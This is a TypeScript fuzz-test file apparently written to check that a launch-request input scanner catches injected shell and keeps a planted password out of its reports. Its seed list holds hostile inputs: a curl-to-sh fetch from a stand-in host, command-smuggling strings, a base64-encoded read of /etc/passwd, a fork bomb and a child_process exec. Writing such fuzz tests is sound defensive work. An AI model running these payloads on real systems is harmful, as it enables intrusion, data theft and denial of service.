import { examineInputs, redactLaunch } from '../../../src/input/index.ts';
import type { LaunchRequest } from '../../../src/model/index.ts';
import { findLanguage } from '../../fakes/languages.ts';
import { launchRequest } from '../../fakes/launches.ts';
import { FuzzFinding, type FuzzTarget } from '../fuzz-target.ts';

const secret = 'hunter2-secret-of-nobody';

const { image: _, ...empty } = launchRequest();

/** The same text at every place where something can be passed, beside a secret that must not be seen again. */
function requestOf(text: string): LaunchRequest {
  return {
    ...empty,
    workload: { labels: { note: text } },
    command: ['sh', '-c', text, text, `--password=${secret}`].map((value, index) => ({ value, path: `Cmd[${index}]` })),
    scripts: [{ purpose: 'probe', command: [{ value: text, path: 'probe' }] }],
    environment: [
      { name: 'A', value: text, path: 'Env[0]' },
      { name: text, value: 'x', path: 'Env[1]' },
      { name: 'DB_PASSWORD', value: secret, path: 'Env[2]' },
      { name: 'LD_PRELOAD', value: text, path: 'Env[3]' },
    ],
    files: [{ target: '/a', path: 'f', content: `${text}\npassword=${secret}` }],
  };
}

export const inputTargets: readonly FuzzTarget[] = [
  {
    name: 'input/request',
    covers: ['input/'],
    seeds: [
      'x;id',
      '$(curl http://a.example/x | sh)',
      '{"a":["$(id)"]}',
      '<a b="&#59;id"/>',
      'Y2F0IC9ldGMvcGFzc3dkOyBpZA==',
      'f(){ f|f& };f',
      'if [ -f "$1" ]; then cat "$1"; fi',
      'require("child_process").exec("id")',
      'postgres://a:b@c/d?e=f',
      'for /f "tokens=1" %a in (x) do echo %a',
    ],
    words: [
      '$(',
      '`',
      '${',
      '<(',
      "$'",
      '""',
      '\\',
      ';',
      '|',
      '&&',
      '{a,',
      '}',
      '<<<',
      '<<a\n',
      '%3B',
      '&#59;',
      '() {',
      'base64 -d',
      '\u0000',
    ],
    run(bytes) {
      const request = requestOf(Buffer.from(bytes).toString());
      const report = examineInputs(request, { strictness: 2, findLanguage });
      const redacted = redactLaunch(request, report);
      if (JSON.stringify(report).includes(secret)) throw new FuzzFinding('the report shows the secret');
      if (JSON.stringify(redacted).includes(secret)) throw new FuzzFinding('the redacted request shows the secret');
      return { rules: report.findings.map(({ rule }) => rule).slice(0, 3), unread: report.unread.length };
    },
  },
];
